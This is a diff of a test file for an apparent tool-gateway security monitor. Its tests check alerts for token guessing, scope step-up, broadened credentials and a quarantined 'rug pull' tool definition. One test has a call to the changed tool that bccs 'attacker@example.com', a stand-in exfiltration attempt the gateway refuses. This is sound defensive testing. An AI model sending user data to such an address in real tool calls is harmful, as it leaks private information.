@@ -4,7 +4,8 @@
  * (fake clock), exfiltration attempts (DLP), and with identity on (API keys): token guessing, reaching
  * above the grant (step-up) and a credential that suddenly holds more scopes. Each alert names the
  * audit records that made it fire, and those records are in the trail. A rug pull (a definition
- * changed after approval) raises supply-chain when a call meets the quarantine.
+ * changed after approval) raises supply-chain as soon as the gateway sees it, and again when a call meets
+ * the quarantine.
  */
 import assert from 'node:assert/strict';
 import { mkdtempSync } from 'node:fs';
@@ -95,12 +96,18 @@ describe('monitor: every detector through the gateway', () => {
 
   it('with identity on: token guessing, step-up refusals and a credential with new scopes', async () => {
     const log = join(mkdtempSync(join(tmpdir(), 'pc-mon-det-')), 'received.jsonl');
-    const gw = await startGateway({
-      servers: { gov: recordedServer(log) },
-      identity: { apiKeys: {} },
-      policy: { rules: [{ name: 'gov', effect: 'allow', servers: ['gov'] }], tools: [{ server: 'gov', tool: 'delete_record', scopes: ['gov:admin'] }] },
-      monitor: { learningPeriod: '1s', detectors: { authFailures: { count: 5, action: 'kill-agent' }, stepUp: { count: 3 }, firstUse: { enabled: false } }, sinks: [] },
-    });
+    // The monitor's clock: moved past the learning period before the broader key shows up, however fast the test runs.
+    const clock = { ms: Date.now() };
+    const gw = await startGateway(
+      {
+        servers: { gov: recordedServer(log) },
+        identity: { apiKeys: {} },
+        policy: { rules: [{ name: 'gov', effect: 'allow', servers: ['gov'] }], tools: [{ server: 'gov', tool: 'delete_record', scopes: ['gov:admin'] }] },
+        monitor: { learningPeriod: '1s', detectors: { authFailures: { count: 5, action: 'kill-agent' }, stepUp: { count: 3 }, firstUse: { enabled: false } }, sinks: [] },
+      },
+      undefined,
+      { now: () => new Date(clock.ms) },
+    );
     gateways.push(gw);
     const store = new IdentityStore(identityDbPath(gw.gateway.config.dataDir!));
     const inAnHour = new Date(Date.now() + 3_600_000);
@@ -127,7 +134,8 @@ describe('monitor: every detector through the gateway', () => {
     const [stepUp] = alertsOf(gw, 'step-up');
     assert.equal(stepUp?.principal.agent, 'ci-bot', 'the step-up refusals are recorded with the caller they refused');
     evidenced(gw, stepUp!, 'PC_AUTH_INSUFFICIENT_SCOPE');
-    // The same agent, now with a key that holds more.
+    // The same agent, after the learning period, now with a key that holds more.
+    clock.ms += 2_000;
     const broad = store.createKey('ci-bot', ['mcp', 'gov:admin'], inAnHour).key;
     const ci2 = await session(broad);
     assert.equal((await ci2(tool('echo', { text: 'broad' }))).status, 200);
@@ -138,7 +146,7 @@ describe('monitor: every detector through the gateway', () => {
     assert.deepEqual(calls, ['echo', 'echo'], 'no delete_record reached the server');
   });
 
-  it('a rug pull: a call to the changed (quarantined) tool raises supply-chain; the server never runs it', async () => {
+  it('a rug pull raises supply-chain when the gateway sees it, and again when a call meets the quarantine; the server never runs it', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'pc-mon-rug-'));
     const log = join(dir, 'received.log');
     const catalog = cleanCatalog();
@@ -153,10 +161,17 @@ describe('monitor: every detector through the gateway', () => {
     writeCatalog(join(dir, 'state.json'), catalog);
     await client.callTool({ name: 'announce', arguments: {} });
     await waitFor(async () => ((await client.listTools()).tools.some((t) => t.name === 't_send') ? undefined : true), 10_000, 'the changed tool to be hidden');
+    // Seen, not yet called: the hold itself is alerted (the guard is its principal) and chained in the trail.
+    const [held, ...more] = alertsOf(gw, 'supply-chain');
+    assert.equal(more.length, 0, 'one alert for one held definition, however often it is listed');
+    assert.equal(held?.tool, 't_send');
+    assert.equal(held.principal.agent, 'supply-guard');
+    assert.match(held.summary, /tool t_send on hostile was quarantined: definition changed since it was approved/);
+    assert.ok(auditRecords(gw).some((r) => r.decision === 'alert' && r.alert?.id === held.id), 'the alert is an audit record');
     const before = targetsReceived(messagesReceived(log), 'tools/call').length;
     assert.equal(await refusalCode(client.callTool({ name: 't_send', arguments: { to: 'a', bcc: 'attacker@example.com' } })), 'PC_SUPPLY_QUARANTINED');
     await client.close();
-    const [alert] = alertsOf(gw, 'supply-chain');
+    const alert = alertsOf(gw, 'supply-chain').find((a) => a.principal.agent !== 'supply-guard');
     assert.equal(alert?.tool, 't_send');
     assert.equal(alert.principal.agent, 'mail-agent');
     evidenced(gw, alert, 'PC_SUPPLY_QUARANTINED');
